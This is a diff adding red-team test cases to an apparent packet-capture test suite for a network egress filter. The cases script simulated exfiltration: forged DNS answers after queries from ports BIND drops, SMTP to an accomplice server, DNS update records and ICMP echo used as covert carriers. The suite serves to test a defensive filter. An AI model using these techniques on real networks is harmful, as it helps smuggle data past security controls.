@@ -29846,6 +29846,322 @@ def case_rt44_frag6_nest_quic_fb(n):
     return cap, {"leak": [leak(n)]}
 
 
+# ---------------------------------------------------------------------------
+# Red team round 45 (a helper): the strict zone's side doors (the resolver, the
+# relay, the e2m endpoint's other protocols). Source ports 63000-63299 (but the
+# BIND drop-port cases: their query's source port is the mechanism), ISNs
+# 0x720000-0x72ffff.
+
+RT45_S2 = "10.10.1.11"          # another strict-zone host (an inside attacker)
+RT45_ATK6 = "2001:db8:bad::66"  # the attacker's IPv6 server (no endpoint)
+RT45_MAIL_NAME = "mail.customs.example"
+
+
+def rt45_q(qid, name, qtype="A", **kw):
+    return bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype), **kw))
+
+
+def rt45_a(qid, name, addr, qtype="A", ttl=300):
+    return bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype),
+                     an=DNSRR(rrname=name, type=qtype, ttl=ttl, rdata=addr)))
+
+
+def rt45_smtp_to(cap, n, dst, cport, isn, marker):
+    """A plain SMTP session from S1 to dst:25 whose message holds marker."""
+    t = ETcp(cap, S1, cport, dst, 25, isn=isn, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    for c, r in ((b"MAIL FROM:<a@e2m.customs.example>\r\n", b"250 2.1.0 Ok\r\n"),
+                 (b"RCPT TO:<drop@outside.example>\r\n", b"250 2.1.5 Ok\r\n"),
+                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n"),
+                 (b"Subject: x\r\n\r\n" + marker + b"\r\n.\r\n", b"250 2.0.0 Ok: queued\r\n"),
+                 (b"QUIT\r\n", b"221 2.0.0 Bye\r\n")):
+        t.data(True, c)
+        t.data(False, r)
+    t.close()
+    return t
+
+
+@case
+def case_rt45_dns_port7_learn(n):
+    """Strict zone: the inside host asks the resolver for e2m.customs.example from UDP
+    source port 7 (echo). BIND 9 (NS_CLIENT_DROPPORT, on by default: ns_client_dropport
+    lists 7, 13, 19 and 37) drops such a request unanswered ("dropped request: suspicious
+    port"), so the only answer is the accomplice's forgery (the host chose the ID and
+    port): 198.18.0.66. DESIGN 8: a query is remembered only when the resolver surely
+    gets it. TLS with the e2m name there must drop."""
+    cap = Capture()
+    udp(cap, S1, 7, RESOLVER, 53, rt45_q(0x7201, E2M_NAME))
+    udp(cap, RESOLVER, 53, S1, 7, forged_dns_answer(0x7201, E2M_NAME, ATK), gap=2000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63001, ATK, 0x720100, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt45_dns_port7_mail(n):
+    """The same for the relay's name (mail.customs.example, endpoint boc_mail: SMTP on
+    25, no name to check): the query from UDP port 19 (chargen), the forged answer, then
+    plain SMTP to the accomplice's server carrying a message: outside e-mail. Must drop."""
+    cap = Capture()
+    udp(cap, S1, 19, RESOLVER, 53, rt45_q(0x7202, RT45_MAIL_NAME))
+    udp(cap, RESOLVER, 53, S1, 19, forged_dns_answer(0x7202, RT45_MAIL_NAME, ATK), gap=2000)
+    cap.idle(0.05)
+    rt45_smtp_to(cap, n, ATK, 63002, 0x720200, leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt45_dns_dropq_learn(n):
+    """Strict zone, UDP: an honest query and answer open and allow the resolver flow;
+    then the query for e2m.customs.example with one byte after its question, which
+    aduana itself refuses (dns_wire_check: trailing bytes; the flow is dropped there, so
+    the resolver never gets it); the accomplice's forged answer. judge_learn runs for
+    packets of a dropped flow too: the refused query was remembered and the forgery
+    taught. TLS with the e2m name to 198.18.0.66 must drop."""
+    cap = Capture()
+    udp(cap, S1, 63003, RESOLVER, 53, rt45_q(0x7203, "www.customs.example"))
+    udp(cap, RESOLVER, 53, S1, 63003, rt45_a(0x7203, "www.customs.example", "192.0.2.80"), gap=2000)
+    udp(cap, S1, 63003, RESOLVER, 53, rt45_q(0x7204, E2M_NAME) + b"\x00", gap=20000)
+    udp(cap, RESOLVER, 53, S1, 63003, forged_dns_answer(0x7204, E2M_NAME, ATK), gap=2000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63004, ATK, 0x720300, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt45_dns_tcp_dropq_learn(n):
+    """The same over TCP: an honest query and answer, then a message with the query for
+    the e2m name and a 64-byte NULL record in its additional section (refused:
+    dns_stdq_type_ok; the flow is dropped there, the resolver never reads it), the
+    accomplice's forged answer at the resolver's next byte, the client's ACK. TLS with
+    the e2m name to 198.18.0.66 must drop."""
+    cap = Capture()
+    t = ETcp(cap, S1, 63005, RESOLVER, 53, isn=0x720500, rtt_us=2000)
+    t.handshake()
+    q, a = dns_pair("www.customs.example", "A", 0x7205, "192.0.2.80")
+    t.data(True, q)
+    t.data(False, a)
+    q2 = rt45_q(0x7206, E2M_NAME, ar=DNSRR(rrname=".", type="NULL", ttl=0, rdata=prand(n, 64)))
+    t.raw(True, "PA", struct.pack("!H", len(q2)) + q2)
+    t.cseq += len(q2) + 2
+    t.send(False, dns_tcp_answer(0x7206, ATK))
+    t.ack(True)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63006, ATK, 0x720600, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt45_dns_aaaa_port13(n):
+    """IPv6 learning: an AAAA query for e2m.customs.example over IPv4 from UDP port 13
+    (daytime, BIND drops it), the forged AAAA answer 2001:db8:bad::66, then TLS over IPv6
+    with the e2m name there. Must drop."""
+    cap = Capture()
+    udp(cap, S1, 13, RESOLVER, 53, rt45_q(0x7207, E2M_NAME, "AAAA"))
+    udp(cap, RESOLVER, 53, S1, 13, rt45_a(0x7207, E2M_NAME, RT45_ATK6, "AAAA"), gap=2000)
+    cap.idle(0.05)
+    tls_flow(cap, S6, 63007, RT45_ATK6, 0x720700, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt45_dns_busy_ok(n):
+    """False block: another strict-zone host (10.10.1.11) asks the resolver 64 times for
+    e2m.customs.example (its own socket, 64 IDs; each answered): a worker's 64 pending
+    entries, all answered, are held 10 s each (dns_pending_add: an answered entry never
+    gives way), so the honest host's query 2 s later is not remembered (busy) and the
+    resolver's answer (198.51.100.200) teaches nothing. The honest host's TLS session
+    there must be allowed: 6.4 queries a second from one insider must not turn off
+    learning for the zone."""
+    cap = Capture()
+    for i in range(64):
+        udp(cap, RT45_S2, 63010, RESOLVER, 53, rt45_q(0x7300 + i, E2M_NAME), gap=3000)
+        udp(cap, RESOLVER, 53, RT45_S2, 63010, rt45_a(0x7300 + i, E2M_NAME, E2M), gap=1000)
+    cap.idle(2)
+    udp(cap, S1, 63011, RESOLVER, 53, rt45_q(0x7208, E2M_NAME), gap=3000)
+    udp(cap, RESOLVER, 53, S1, 63011, rt45_a(0x7208, E2M_NAME, ATK_OK), gap=2000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63012, ATK_OK, 0x720800, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_rt45_dns_conflict_cut_ok(n):
+    """False block: the honest host asks for e2m.customs.example and the resolver answers
+    198.51.100.200 (learned); it opens its E2M session there. Another strict-zone host
+    asks the same name on its own socket; the resolver's answer (the same address) comes,
+    then the accomplice's forged second answer (198.18.0.66): a conflict on the other
+    host's query, which takes back every address either answer gave, 198.51.100.200
+    too, and cuts the honest session (judge_relearn). The honest host's own query had one
+    answer: its session must go on."""
+    cap = Capture()
+    udp(cap, S1, 63013, RESOLVER, 53, rt45_q(0x7209, E2M_NAME))
+    udp(cap, RESOLVER, 53, S1, 63013, rt45_a(0x7209, E2M_NAME, ATK_OK), gap=2000)
+    cap.idle(0.05)
+    t = tls_established(cap, S1, 63014, ATK_OK, 0x720900, n)
+    udp(cap, RT45_S2, 63015, RESOLVER, 53, rt45_q(0x720a, E2M_NAME), gap=3000)
+    udp(cap, RESOLVER, 53, RT45_S2, 63015, rt45_a(0x720a, E2M_NAME, ATK_OK), gap=2000)
+    udp(cap, RESOLVER, 53, RT45_S2, 63015, rt45_a(0x720a, E2M_NAME, ATK), gap=1000)
+    cap.idle(0.1)
+    t.data(True, marked_record(passm(n), n + "after"))
+    t.data(False, tls_appdata(n + "resp2", 300))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def rt45_sig(seed, covered, signer="customs.example", n=512):
+    """An RRSIG's data (RFC 4034 3.1): RSA/SHA-256, a 4096-bit key's signature."""
+    name = b"".join(bytes([len(x)]) + x.encode() for x in signer.split(".")) + b"\x00"
+    return (struct.pack("!HBBIIIH", covered, 8, 3, 300, 0x6a000000, 0x69000000, 0x1234)
+            + name + prand(seed, n))
+
+
+def rt45_dnssec_answer(qid, name, addrs, sigs, do_tcp_big=False, tc=False, opt=True):
+    """A signed answer: A records of name and, per RRset, `sigs` RRSIGs (a double-signed
+    rollover, RFC 6781 4.1.1.2), the zone's NS in authority, an OPT with DO."""
+    an = None
+    for a in addrs:
+        r = DNSRR(rrname=name, type="A", ttl=300, rdata=a)
+        an = r if an is None else an / r
+    for i in range(sigs):
+        an = an / DNSRR(rrname=name, type="RRSIG", ttl=300, rdata=rt45_sig("%s%d" % (name, i), 1))
+    ns = (DNSRR(rrname="customs.example", type="NS", ttl=3600, rdata="ns1.customs.example")
+          / DNSRR(rrname="customs.example", type="RRSIG", ttl=3600, rdata=rt45_sig("ns", 2)))
+    kw = dict(id=qid, qr=1, rd=1, ra=1, ad=1, tc=int(tc), qd=DNSQR(qname=name, qtype="A"))
+    if not tc:
+        kw.update(an=an, ns=ns)
+    if opt:
+        kw["ar"] = DNSRROPT(rclass=1232, z=0x8000)
+    return bytes(DNS(**kw))
+
+
+@open_case
+def case_rt45_dns_tc_tcp_learn_ok(n):
+    """Honest DNSSEC: the validating host's query (DO, EDNS 1232) gets a TC answer over
+    UDP (the signed answer is 2.3 KB: 4 addresses, their RRset signed twice during a key
+    rollover by a 4096-bit key), asks again over TCP, and the answer comes in two
+    segments (MSS 1460). One of the addresses is 198.51.100.200. TLS to it must be
+    allowed: an answer over TCP cut by its sender's MSS teaches nothing today
+    (dns_bad tcp_split)."""
+    cap = Capture()
+    addrs = [ATK_OK, "198.51.100.201", "198.51.100.202", "198.51.100.203"]
+    q = bytes(DNS(id=0x720b, rd=1, ad=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
+                  ar=DNSRROPT(rclass=1232, z=0x8000)))
+    udp(cap, S1, 63016, RESOLVER, 53, q)
+    udp(cap, RESOLVER, 53, S1, 63016, rt45_dnssec_answer(0x720b, E2M_NAME, addrs, 0, tc=True),
+        gap=2000)
+    t = ETcp(cap, S1, 63017, RESOLVER, 53, isn=0x720b00, rtt_us=2000)
+    t.handshake()
+    t.data(True, struct.pack("!H", len(q)) + q)
+    a = rt45_dnssec_answer(0x720b, E2M_NAME, addrs, 4)
+    a = struct.pack("!H", len(a)) + a
+    assert len(a) > 1460
+    t.raw(False, "A")
+    for i in range(0, len(a), 1448):
+        t.raw(False, "PA", a[i:i + 1448], gap=200)
+        t.sseq += len(a[i:i + 1448])
+    t.ack(True)
+    t.close()
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63018, ATK_OK, 0x720c00, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt45_dns_dnssec_learn_ok(n):
+    """Honest DNSSEC over UDP: a validating stub's query (DO, a cookie); the answer holds
+    the A record and its RRSIG, the zone's NS and its RRSIG in authority, an OPT. TLS to
+    the learned 198.51.100.200 must be allowed."""
+    cap = Capture()
+    opt = DNSRROPT(rclass=1232, z=0x8000, rdata=[EDNS0TLV(optcode=10, optdata=prand(n + "ck", 8))])
+    q = bytes(DNS(id=0x720d, rd=1, ad=1, qd=DNSQR(qname=E2M_NAME, qtype="A"), ar=opt))
+    udp(cap, S1, 63019, RESOLVER, 53, q)
+    a = rt45_dnssec_answer(0x720d, E2M_NAME, [ATK_OK], 1)
+    udp(cap, RESOLVER, 53, S1, 63019, a, gap=2000)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63020, ATK_OK, 0x720d00, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_rt45_dns_update_carrier(n):
+    """A dynamic update (opcode 5) to the resolver whose update section holds a 1200-byte
+    NULL record (the marker): an update's records are taken whole, of any type and length
+    (dns_wire_check bounds a standard query's only), so every datagram carries 1.2 KB
+    to whoever taps the path, as rt8b_dns_query_rr_carrier's query did before the
+    twenty-third session. A resolver that is not the zone's primary refuses it (BIND:
+    REFUSED or NOTAUTH) and passes nothing on. Any verdict, no marker past us."""
+    cap = Capture()
+    for i in range(3):
+        upd = bytes(DNS(id=0x7210 + i, opcode=5, qd=DNSQR(qname="customs.example", qtype="SOA"),
+                        ns=DNSRR(rrname="ws-10.customs.example", type="NULL", ttl=0,
+                                 rdata=leak(n) + prand("%s%d" % (n, i), 1200))))
+        udp(cap, S1, 63021, RESOLVER, 53, upd)
+        udp(cap, RESOLVER, 53, S1, 63021, bytes(DNS(id=0x7210 + i, qr=1, opcode=5, rcode=5,
+                                                     qd=DNSQR(qname="customs.example", qtype="SOA"))),
+            gap=2000)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt45_quic_e2m_fb_ok(n):
+    """Honest: a browser's QUIC Initial for e2m.customs.example to the e2m server's UDP
+    443 (the endpoint declares TLS: over TCP), and its fallback to TCP 300 ms later. The
+    QUIC flow may go either way; the TLS session must be allowed, untouched."""
+    cap = Capture()
+    dcid, scid = _q_ids(n)
+    m = quic_hs_hello(n, E2M_NAME)
+    for i in range(2):
+        udp(cap, S1, 63022, E2M, 443, quic_initial(dcid, scid, i, quic_crypto_frame(0, m)),
+            gap=100000)
+    cap.idle(0.3)
+    tls_flow(cap, S1, 63023, E2M, 0x721700, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt45_smtp_454_plain_ok(n):
+    """Honest: a client (swaks --tls-optional) sends STARTTLS; the relay answers 454 (TLS
+    not available); the client goes on in plaintext with RFC 2920 pipelining (MAIL,
+    RCPT, RCPT, DATA in one segment), an 8-bit body with ISO-2022-JP escapes, and the
+    end of data with QUIT pipelined. Must be allowed, nothing dropped."""
+    cap = Capture()
+    t = ETcp(cap, S1, 63024, MAIL, 587, isn=0x721800, rtt_us=4000)
+    t.handshake()
+    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
+    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
+    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
+                  b"250-STARTTLS\r\n250-8BITMIME\r\n250 SMTPUTF8\r\n")
+    t.data(True, b"STARTTLS\r\n")
+    t.data(False, b"454 4.7.0 TLS not available due to local problem\r\n")
+    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example> BODY=8BITMIME SIZE=400\r\n"
+                 b"RCPT TO:<office@customs.example>\r\nRCPT TO:<archive@customs.example>\r\n"
+                 b"DATA\r\n")
+    t.data(False, b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n250 2.1.5 Ok\r\n"
+                  b"354 End data with <CR><LF>.<CR><LF>\r\n")
+    body = (b"Subject: =?ISO-2022-JP?B?GyRCJUYlOSVIGyhC?=\r\nContent-Type: text/plain; "
+            b"charset=ISO-2022-JP\r\n\r\n\x1b$B%F%9%H\x1b(B\r\n"
+            b"caf\xc3\xa9 d\xc3\xa9claration\r\n..leading dot\r\n" + passm(n) + b"\r\n")
+    t.data(True, body + b".\r\nQUIT\r\n")
+    t.data(False, b"250 2.0.0 Ok: queued as 4XyZ\r\n221 2.0.0 Bye\r\n")
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt45_ping_resolver(n):
+    """Strict zone: echo requests to the resolver's address carrying 1000 bytes each (an
+    ICMP tunnel, ptunnel). The dns endpoint allows DNS on port 53 only. Must drop at the
+    first packet."""
+    from scapy.layers.inet import ICMP
+    cap = Capture()
+    for i in range(3):
+        cap.emit(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER)
+                 / ICMP(type=8, id=0x7219, seq=i) / Raw(leak(n) + prand(n + str(i), 1000)), 10000)
+    return cap, {"leak": [leak(n)]}
+
+
 def main(argv):
     if len(argv) >= 2 and argv[1] == "--list":
         print("\n".join(CASES))
